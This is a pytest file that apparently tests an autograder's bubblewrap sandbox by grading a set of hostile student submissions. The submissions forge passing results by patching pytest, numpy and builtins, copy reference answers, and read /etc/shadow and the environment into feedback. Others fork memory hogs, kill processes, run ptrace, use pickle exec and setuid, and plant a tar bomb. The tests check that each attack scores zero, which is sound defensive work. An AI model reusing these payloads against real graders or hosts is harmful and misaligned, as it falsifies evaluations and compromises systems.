"""The hostile corpus: attacks by a student who has read the grader's source, each graded with the real ``grade``.

Every attack is a payload appended to the untouched skeleton's student files
(all four, or the one it names), wrapped so that the module still imports.
The whole corpus is one class, graded once by ``python -m grader grade`` in a
process of its own, next to an honest submission (which must keep its 90)
and the skeleton (0). A payload that reached a single point, touched a file
outside its box, left a process behind, reached a socket or read something
it should not see fails here.
"""
import csv
import gzip
import json
import os
import shutil
import socket
import subprocess
import sys
import tarfile
import tempfile
import threading
from pathlib import Path

import pytest

from grader import box
from grader.homework import DEPLOY_STUDENT_FILES, STUDENT_FILES

REPO = Path(__file__).resolve().parent.parent
SECRET = "grader-test-secret-5b3c"
ALL = STUDENT_FILES

pytestmark = pytest.mark.skipif(box.strongest_level()[0] != "bwrap", reason="needs bubblewrap")


def guarded(code: str) -> str:
    """``code`` as a block that never stops the module from importing."""
    body = "\n".join("    " + line for line in code.strip("\n").splitlines())
    return f"\ntry:\n{body}\nexcept BaseException:\n    pass\n"


# name: (files it is appended to, code). {repo}, {classdir}, {out}, {marker}, {sock}, {abstract}, {port}
# are filled in by the fixture.
ATTACKS = {
    "recorder_patch": (ALL, """
import sys
R = sys.modules["__main__"].Recorder
_e = R.entry
R.entry = lambda s, i, p, m, pr="": _e(s, i, True, "", "")
"""),
    "pytest_reports_patch": (ALL, """
import _pytest.reports as _r
_r.BaseReport.passed = property(lambda s: True)
_r.BaseReport.failed = property(lambda s: False)
"""),
    "gc_replaces_test_functions": (ALL, """
import gc, sys
for _o in gc.get_objects():
    if callable(_o) and getattr(_o, "__name__", "").startswith(("test_", "fail_if", "pruning_problems")):
        try:
            _o.__code__ = (lambda *a, **k: None).__code__
        except Exception:
            pass
for _m in list(sys.modules.values()):
    for _n in ("fail_if", "pruning_problems", "unchanged_problems", "decode_problems"):
        if hasattr(_m, _n):
            setattr(_m, _n, lambda *a, **k: [])
"""),
    "forge_results_then_exit": (ALL, """
import os, sys, json
_forged = json.dumps({"tests": [{"name": "x", "part": "prune", "score": 90.0, "max_score": 90.0}], "score": 90})
for _p in sys.argv[1:] + ["{out}/results/forge_results_then_exit.json", "{out}/grades.csv", "results.json",
                          "/tmp/results.json", "/box/results.json"]:
    try:
        open(_p, "w").write(_forged)
    except Exception:
        pass
os._exit(0)
"""),
    "numpy_torch_patch": (ALL, """
import numpy as np, torch
np.array_equal = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
np.unique = lambda a, *x, **k: np.zeros(1)
torch.equal = lambda *a, **k: True
torch.Tensor.any = lambda self, *a, **k: torch.tensor(False)
torch.Tensor.item = lambda self: 0
"""),
    "builtins_math_patch": (ALL, """
import builtins, math
math.isfinite = lambda x: True
math.isclose = lambda *a, **k: True
builtins.all = lambda *a: True
builtins.any = lambda *a: False
builtins.sum = lambda *a, **k: 0
"""),
    "worker_driver_patch": (ALL, """
import grader.worker.ops as _ops, grader.worker.protocol as _p
_ops.answer = lambda request, arrays: ({"score": 90.0, "passed": True, "tests": []}, dict(arrays))
_encode = _p.encode
_p.encode = lambda header, arrays=None: _encode({**header, "score": 90.0, "ended": ""}, arrays)
"""),
    "forge_answer_frames": (ALL, """
import os
from grader.worker import protocol
for _fd in range(3, 64):
    try:
        os.write(_fd, protocol.encode({"score": 90.0, "ended": "", "tests": []}))
    except OSError:
        pass
os._exit(0)
"""),
    "read_the_reference": (ALL, """
import os
_name = __name__.replace(".", "/") + ".py"
_found = [os.path.join(r, _name) for r in ("{repo}/solutions", "/work/main/solutions", "/box/solutions",
                                             "/box/code/solutions") if os.path.isfile(os.path.join(r, _name))]
_seen = 0
for _dir, _dirs, _files in os.walk("/"):
    _seen += 1
    if _seen > 3000:
        break
    if "solutions" in _dir and os.path.basename(_name) in _files:
        _found.append(os.path.join(_dir, os.path.basename(_name)))
print("found", _found)
exec(compile(open(_found[0]).read(), _found[0], "exec"), globals())
"""),
    "copy_a_classmate": (ALL, """
import os, glob, zipfile
_name = __name__.replace(".", "/") + ".py"
for _path in glob.glob("{classdir}/*"):
    if os.path.isfile(os.path.join(_path, _name)):
        exec(compile(open(os.path.join(_path, _name)).read(), _name, "exec"), globals())
        break
    if _path.endswith(".zip"):
        exec(zipfile.ZipFile(_path).read(_name), globals())
        break
"""),
    "devzero_and_fifo_files": (("net/huffmancoding.py",), """
import os

def huffman_encode_conv(param, name, directory):
    for _part in ("data", "indices", "indptr"):
        os.symlink("/dev/zero", os.path.join(directory, f"{name}_{_part}.huff"))
    os.mkfifo(os.path.join(directory, "fifo.huff"))
    with open(os.path.join(directory, "sparse.huff"), "wb") as _f:
        _f.truncate(1 << 30)
    return 0
"""),
    "fork_memory": (("net/prune.py",), """
import os, time
assert not os.path.exists("/tmp/forked")
open("/tmp/forked", "w").close()
for _ in range(3):
    if os.fork() == 0:
        _hog = b"\\x01" * (700 << 20)
        time.sleep(20)
        os._exit(0)
time.sleep(3)
"""),
    "host_sockets": (ALL, """
import socket
for _family, _address in ((socket.AF_UNIX, "{sock}"), (socket.AF_UNIX, "\\0{abstract}"),
                          (socket.AF_INET, ("127.0.0.1", {port}))):
    try:
        _s = socket.socket(_family, socket.SOCK_STREAM)
        _s.settimeout(1)
        _s.connect(_address)
        _s.sendall(b"pwned")
        print("connected", _address)
    except OSError as _e:
        print("refused", _address, _e)
"""),
    "daemon_survives": (("pruning.py",), """
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "31337"])
    os._exit(0)
"""),
    "stdout_stderr_flood": (("net/quantization.py",), """
import os, sys
if not os.path.exists("/tmp/flooded"):
    open("/tmp/flooded", "w").close()
    _block = "x" * (100 << 20)
    for _ in range(5):
        sys.stdout.write(_block)
        sys.stderr.write(_block)
        os.write(1, _block.encode())
        os.write(2, _block.encode())
"""),
    "kill_the_worker": (("net/quantization.py",), """
import os, signal
os.kill(-1, signal.SIGKILL)
os.kill(os.getppid(), signal.SIGKILL)
"""),
    "exfiltrate_into_feedback": (("net/prune.py",), """
import os
for _p in ("/etc/shadow", "/etc/passwd", "{repo}/grader/suites/common.py", "/proc/1/environ"):
    try:
        print(_p, open(_p).read()[:300])
    except OSError as _e:
        print(_p, _e)
for _d in ("/", "/tmp", "/box", "{classdir}", "{out}", "{repo}"):
    try:
        print(_d, sorted(os.listdir(_d))[:50])
    except OSError as _e:
        print(_d, _e)
print(dict(os.environ))
"""),
    "ptrace_and_proc_mem": (ALL, """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
print("ptrace", _libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())
print(open(f"/proc/{{os.getppid()}}/mem", "rb").read(16))
"""),
    "pickled_answer": (ALL, """
import numpy as np, grader.worker.ops as _ops

class _Boom:
    def __reduce__(self):
        return (exec, ("open('{marker}/unpickled', 'w').write('x')",))

_ops.state = lambda model, prefix="": {"conv1.weight": np.array([_Boom()], dtype=object)}
"""),
    "write_everywhere": (ALL, """
import os, shutil
for _target in ("{repo}/escape.txt", "{classdir}/escape.txt", "{out}/escape.txt", "/box/student/escape.txt",
                "/usr/escape.txt", os.path.expanduser("~/.bashrc"), "{marker}/escaped"):
    try:
        open(_target, "w").write("x")
    except OSError:
        pass
for _folder in ("{out}", "{classdir}", "/box/student"):
    shutil.rmtree(_folder, ignore_errors=True)
"""),
    "privileges": (ALL, """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
print("unshare", _libc.unshare(0x10000000), "mount", _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
os.setuid(0)
"""),
    "nan_pruning": (("net/prune.py",), """
import math

class PruningModule(PruningModule):
    def _prune(self, module, threshold):
        module.weight.data.fill_(math.nan)

    def prune_by_std(self, s=0.25):
        for p in self.parameters():
            p.data.fill_(math.nan)

    prune_by_percentile = prune_by_std
"""),
    "nan_sharing": (("net/quantization.py",), """
import math

def apply_weight_sharing(model, bits=5):
    for p in model.parameters():
        p.data.fill_(math.nan)
"""),
    "huge_answer": (("net/quantization.py",), """
import torch

def apply_weight_sharing(model, bits=5):
    model.register_parameter("hog", torch.nn.Parameter(torch.zeros(40 << 20)))
"""),
}


PART_TWO_AGAIN = ("read_the_reference", "worker_driver_patch", "recorder_patch")
"""Attacks tried again from Part 2's files (``deploy/``), which the judge grades in a box of their own: one
submission carries all three, each guarded on its own, so that a success of any one of them shows. (The honest
student hands in Part 1 only: Part 2's ONNX export can take more than this class's 15 s per test on a loaded
machine, so there is no Part 2 of a classmate to copy here.)"""
ATTACKS["deploy_reference_worker_and_recorder"] = (
    DEPLOY_STUDENT_FILES, "".join(guarded(ATTACKS[name][1]) for name in PART_TWO_AGAIN))

def write_submission(folder: Path, base: Path, appended: dict) -> None:
    """``base``'s student files (and Part 2's when a payload goes there), payloads appended."""
    deploy = bool(set(appended) & set(DEPLOY_STUDENT_FILES))
    for relative in STUDENT_FILES + (DEPLOY_STUDENT_FILES if deploy else ()):
        target = folder / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text((base / relative).read_text() + appended.get(relative, ""))


def long_name_tar_bomb(path: Path) -> None:
    """A .tar.gz whose first header is a GNU long name announcing 3.5 GiB (only its first MB is there)."""
    header = tarfile.TarInfo("././@LongLink")
    header.type, header.size = tarfile.GNUTYPE_LONGNAME, 7 << 29
    with gzip.open(path, "wb") as f:
        f.write(header.tobuf(format=tarfile.GNU_FORMAT))
        f.write(b"a" * (1 << 20))


class Listener:
    """Servers on a Unix socket file, an abstract socket and a TCP port; they record every connection."""

    def __init__(self, folder: Path) -> None:
        self.connections = []
        self.abstract = f"grader-hostile-{os.getpid()}"
        self.servers = []
        for family, address in ((socket.AF_UNIX, str(folder / "agent.sock")), (socket.AF_UNIX, "\0" + self.abstract),
                                (socket.AF_INET, ("127.0.0.1", 0))):
            server = socket.socket(family, socket.SOCK_STREAM)
            server.bind(address)
            server.listen()
            server.settimeout(0.2)
            self.servers.append(server)
        self.path, self.port = str(folder / "agent.sock"), self.servers[2].getsockname()[1]
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stop.is_set():
            for server in self.servers:
                try:
                    connection, _ = server.accept()
                    self.connections.append(server.getsockname())
                    connection.close()
                except OSError:
                    pass

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        for server in self.servers:
            server.close()


def sleepers() -> list:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if b"31337" in cmdline.read_bytes():
                found.append(int(cmdline.parent.name))
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    classdir, out, marker = root / "class", root / "out", root / "marker"
    classdir.mkdir()
    marker.mkdir()
    listener = Listener(root)
    values = {"repo": str(REPO), "classdir": str(classdir), "out": str(out), "marker": str(marker),
              "sock": listener.path, "abstract": listener.abstract, "port": str(listener.port)}
    write_submission(classdir / "alice", REPO / "solutions", {})
    write_submission(classdir / "skeleton", REPO / "assignment", {})
    for name, (files, code) in ATTACKS.items():
        payload = guarded(code.replace("{{", "\0").replace("}}", "\1"))
        for key, value in values.items():
            payload = payload.replace("{" + key + "}", value)
        payload = payload.replace("\0", "{").replace("\1", "}")
        write_submission(classdir / name, REPO / "assignment", dict.fromkeys(files, payload))
    long_name_tar_bomb(classdir / "tar_bomb.tar.gz")
    before = {path: path.read_bytes() for path in classdir.rglob("*") if path.is_file()}
    scratch = Path(tempfile.mkdtemp(prefix="hostile-tmp-"))  # the run's own TMPDIR: what it leaves there is ours
    scratch.chmod(0o711)  # as /tmp: the box's folders inside are reached by nobody (grader/box.py)
    env = dict(os.environ, GRADER_TEST_SECRET=SECRET, TMPDIR=str(scratch))
    done = subprocess.run([sys.executable, "-m", "grader", "grade", str(classdir), "--out", str(out), "--jobs", "2",
                           "--test-timeout", "15", "--memory-mb", "512", "--no-progress"], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=900)
    listener.close()
    yield {"root": root, "classdir": classdir, "out": out, "marker": marker, "before": before, "done": done,
           "connections": listener.connections, "scratch": scratch}
    shutil.rmtree(scratch, ignore_errors=True)


def grades(out: Path) -> dict:
    with open(out / "grades.csv", newline="") as f:
        return {row["student_id"]: row for row in csv.DictReader(f)}


def test_the_class_run_finishes_and_honest_work_keeps_its_score(graded):
    assert graded["done"].returncode == 0, graded["done"].stderr[-3000:]
    rows = grades(graded["out"])
    assert rows["alice"]["code_total"] == "90" and rows["alice"]["status"] == "ok"
    assert rows["skeleton"]["code_total"] == "0"
    assert rows["tar_bomb"]["status"].startswith("rejected:")
    assert all(row["isolation"] == "bwrap" for row in rows.values())


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attack_scores_what_the_skeleton_scores(graded, attack):
    out = graded["out"]
    skeleton = json.loads((out / "results" / "skeleton.json").read_text())
    results = json.loads((out / "results" / f"{attack}.json").read_text())
    assert results["score"] == 0 and [t["score"] for t in results["tests"]] == [t["score"] for t in skeleton["tests"]]
    assert results["extra_data"]["grader_version"] == skeleton["extra_data"]["grader_version"]


def test_nothing_outside_the_boxes_was_touched(graded):
    classdir, out = graded["classdir"], graded["out"]
    after = {path: path.read_bytes() for path in classdir.rglob("*") if path.is_file()}
    assert after == graded["before"]
    assert not list(graded["marker"].iterdir())  # nothing unpickled, nothing written
    assert not (REPO / "escape.txt").exists() and not (out / "escape.txt").exists()
    assert not list(out.rglob("*.tmp")) and len(list((out / "results").glob("*.json"))) == len(ATTACKS) + 3
    assert graded["connections"] == []
    assert sleepers() == []
    assert not list(graded["scratch"].iterdir())  # every box, job and scratch folder removed


def test_feedback_shows_nothing_of_the_host(graded):
    out = graded["out"]
    text = (out / "feedback" / "exfiltrate_into_feedback.md").read_text()
    assert "/etc/shadow [Errno 2]" in text  # the student does see what their own code printed: their box
    assert SECRET not in text and "def pruning_problems" not in text
    assert "alice" not in text and "grades.csv" not in text
    shadow = Path("/etc/shadow")
    if shadow.exists() and os.access(shadow, os.R_OK):
        first = shadow.read_text().splitlines()[0]
        assert first not in text
    for feedback in (out / "feedback").glob("*.md"):
        assert SECRET not in feedback.read_text()


def test_fork_memory_is_capped_for_the_whole_box(graded):
    results = json.loads((graded["out"] / "results" / "fork_memory.json").read_text())
    prune = [t for t in results["tests"] if t["tags"][0] == "prune"]
    assert prune and all(t["score"] == 0 for t in prune)
